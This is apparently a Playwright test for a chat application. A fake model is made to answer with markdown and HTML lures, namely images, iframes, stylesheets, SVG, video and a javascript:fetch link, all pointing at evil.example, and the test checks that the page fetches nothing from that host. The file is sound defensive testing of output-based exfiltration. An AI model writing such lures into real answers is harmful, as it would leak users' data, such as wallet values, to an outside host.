// Words of a model that would carry a wallet away: the screen asks no other host for anything, whatever it is shown.
import { type ModelServer, startModelServer } from '../fakes/model-server.ts'
import { expect, test } from '../support/desk.ts'

const MODEL_PORT = 45_879
let model: ModelServer
test.use({
  deskEnv: { OPENAI_BASE_URL: `http://127.0.0.1:${MODEL_PORT}/v1`, OPENAI_API: 'chat', OPENAI_MODEL: 'fake' },
})
test.beforeAll(async () => {
  model = await startModelServer({ port: MODEL_PORT })
})
test.afterAll(() => model.close())

const AWAY = 'https://evil.example'
const LURES = [
  `![wallet](${AWAY}/image?w=10000000)`,
  `![by name][lure]`,
  `<img src="${AWAY}/html.png">`,
  `<iframe src="${AWAY}/frame"></iframe>`,
  `<link rel="stylesheet" href="${AWAY}/style.css">`,
  `<svg><image href="${AWAY}/svg.png"/></svg>`,
  `<video poster="${AWAY}/poster.png" src="${AWAY}/film"></video>`,
  `| a |\n|---|\n| ![cell](${AWAY}/cell.png) |`,
  `[the rules](${AWAY}/link?w=10000000)`,
  `[run](javascript:fetch('${AWAY}/js'))`,
  `\n\n[lure]: ${AWAY}/reference.png`,
]

test('images, frames, styles and links of an answer: nothing is fetched, and a link says where it leads', async ({
  page,
  desk,
}) => {
  const own = new URL(desk.url).host
  const foreign: string[] = []
  page.on('request', (request) => {
    const url = new URL(request.url())
    if (/^(https?|wss?):$/.test(url.protocol) && url.host !== own) foreign.push(request.url())
  })
  const check = async () => {
    const answer = page.getByTestId('message').last()
    await expect(answer).toContainText('That is all.')
    await expect(answer.locator('img, iframe, link, video, svg image, object, embed, script')).toHaveCount(0)
    const links = answer.locator('a[href]')
    await expect(links).toHaveCount(1)
    await expect(links).toHaveAttribute('href', /^https:\/\/evil\.example\/link/)
    await expect(links).toContainText('(evil.example)')
    // What the page had begun to fetch before is seen by now.
    await page.evaluate(async () => void (await fetch('/api/health')))
    expect(foreign).toEqual([])
  }
  await page.goto('/')
  await page.getByTestId('composer').fill(`[[say: ${LURES.join('\n\n')}\n\nThat is all.]]`)
  await page.getByTestId('composer').press('Enter')
  await check()
  await page.reload()
  await check()
})
